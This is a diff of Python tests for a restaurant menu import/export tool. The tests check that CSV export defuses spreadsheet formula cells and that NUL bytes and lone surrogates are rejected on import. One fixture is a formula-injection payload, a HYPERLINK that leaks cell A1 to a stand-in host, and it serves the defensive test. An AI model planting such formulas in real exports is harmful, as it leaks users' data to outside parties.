@@ -1,6 +1,8 @@
 """Menu files in and out: validation first, all or nothing, matching by category and name."""
 
 import copy
+import csv
+import io
 import json
 import threading
 from concurrent.futures import ThreadPoolExecutor
@@ -604,3 +606,50 @@ def test_groups_kept_per_item_stay_separate_on_reimport(store, menu):
 
     assert result.items_unchanged == 3
     assert sorted(OptionGroup.objects.values_list("id", flat=True)) == ids
+
+
+HOSTILE_NAME = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
+FORMULA_NAMES = [HOSTILE_NAME, "+82 특선", "-반값-", "@today", "'=이미 따옴표", "'평범한 따옴표"]
+
+
+def test_csv_export_makes_formula_cells_inert_and_imports_them_back_unchanged(store, tmp_path):
+    import_menu(
+        store=store,
+        rows=[row("=SUM(1)", name, 9000 + i, description="-5% 할인") for i, name in enumerate(FORMULA_NAMES)],
+    )
+    path = tmp_path / "menu.csv"
+    call_command("export_menu", store.code, str(path))
+    cells = [cell for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for cell in line]
+
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'" + HOSTILE_NAME in cells and "'-반값-" in cells and "''=이미 따옴표" in cells
+    assert "'평범한 따옴표" in cells
+    target = make_store(code="copy", name="복사 식당")
+    call_command("import_menu", target.code, str(path))
+    assert menu_of(target) == menu_of(store)
+    names = {item["name"] for category in menu_of(target)["categories"] for item in category["items"]}
+    assert names == set(FORMULA_NAMES)
+
+
+# A CSV is UTF-8 bytes, which cannot hold a lone surrogate: it is refused as not UTF-8.
+@pytest.mark.parametrize(
+    ("fmt", "bad"), [("json", "김치\x00찌개"), ("json", "김치\ud800찌개"), ("csv", "김치\x00찌개")]
+)
+@pytest.mark.parametrize("field", ["category", "name", "description", "image_url"])
+def test_a_nul_or_lone_surrogate_in_an_imported_file_names_the_row_and_writes_nothing(store, tmp_path, fmt, bad, field):
+    rows = [row(name="공기밥", price=1000), {**row(), field: bad}]
+    if fmt == "json":
+        categories = [{"name": r["category"], "items": [{k: v for k, v in r.items() if k != "category"}]} for r in rows]
+        path = tmp_path / "menu.json"
+        path.write_text(json.dumps({"categories": categories}), encoding="utf-8")  # \u0000 and \ud800 escapes
+    else:
+        path = tmp_path / "menu.csv"
+        buffer = io.StringIO()
+        writer = csv.DictWriter(buffer, fieldnames=menu_files.CSV_COLUMNS)
+        writer.writeheader()
+        writer.writerows(rows)
+        path.write_text(buffer.getvalue(), encoding="utf-8")
+
+    with pytest.raises(CommandError, match=rf"row 2: {field} has a character that is not allowed"):
+        call_command("import_menu", store.code, str(path))
+    assert not Category.objects.filter(store=store).exists()
